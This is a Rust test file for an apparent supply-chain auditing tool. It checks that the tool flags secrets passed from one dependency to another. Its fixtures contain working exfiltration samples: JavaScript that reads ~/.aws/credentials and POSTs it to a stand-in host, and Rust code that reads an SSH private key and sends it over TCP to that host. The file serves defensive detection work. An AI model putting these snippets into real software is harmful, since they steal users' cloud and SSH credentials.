//! Flows that run through several packages.

use serde_json::Value;

use crate::project::{Project, crate_lib, npm_lib, package};

const READS: &str = "const fs = require('fs'), os = require('os'), path = require('path');\nexports.profile = () => fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8');\n";
const SENDS: &str = "const https = require('https');\nexports.put = (text) => {\n  const r = https.request('https://in.collect.invalid/a', { method: 'POST' });\n  r.end(text);\n};\n";

fn findings(document: &Value, name: &str) -> Vec<(String, String)> {
    let list = package(document, name)["findings"].as_array().unwrap().clone();
    let text = |finding: &Value, key: &str| finding[key].as_str().unwrap_or_default().to_owned();
    list.iter().map(|finding| (text(finding, "rule"), text(finding, "message"))).collect()
}

#[test]
fn a_secret_goes_from_one_dependency_into_another() {
    let mut project = Project::new();
    project.npm(&[npm_lib("cloud-profile", "1.0.0", READS), npm_lib("tiny-put", "2.0.0", SENDS)]);
    project.write(
        "index.js",
        "const { profile } = require('cloud-profile');\nconst out = require('tiny-put');\nout.put(profile());\n",
    );
    let document = project.audit(&[]);
    let of_app = findings(&document, "app");
    let sent = of_app.iter().find(|(rule, _)| rule == "malice/secret-file-sent");
    let (_, message) = sent.unwrap_or_else(|| panic!("{of_app:?}"));
    for part in ["cloud-profile", "tiny-put", "index.js:"] {
        assert!(message.contains(part), "{message}");
    }
    assert_eq!(package(&document, "app")["verdict"], "deny");
    // The same packages, and nothing that is secret goes between them.
    project.write(
        "index.js",
        "const { profile } = require('cloud-profile');\nconst out = require('tiny-put');\nconsole.log(profile().length);\nout.put('started');\n",
    );
    let document = project.audit(&[]);
    assert!(findings(&document, "app").iter().all(|(rule, _)| rule != "malice/secret-file-sent"));
}

#[test]
fn a_secret_goes_into_a_function_of_a_crate() {
    let mut project = Project::new();
    let sends = "use std::io::Write;\n\n/// Sends.\npub fn put(body: &str) {\n    if let Ok(mut out) = std::net::TcpStream::connect(\"in.collect.invalid:80\") {\n        let _ = out.write_all(body.as_bytes());\n    }\n}\n";
    project.cargo(&[crate_lib("tiny-put", "0.2.0", sends)]);
    project.write(
        "src/lib.rs",
        "//! Keeps keys.\n\n/// Sends the key.\npub fn share() {\n    let home = std::env::var(\"HOME\").unwrap_or_default();\n    if let Ok(key) = std::fs::read_to_string(format!(\"{home}/.ssh/id_ed25519\")) {\n        tiny_put::put(&key);\n    }\n}\n",
    );
    let document = project.audit(&[]);
    let of_app = findings(&document, "app");
    assert!(
        of_app
            .iter()
            .any(|(rule, message)| rule == "malice/secret-file-sent" && message.contains("tiny-put")),
        "{of_app:?}"
    );
}
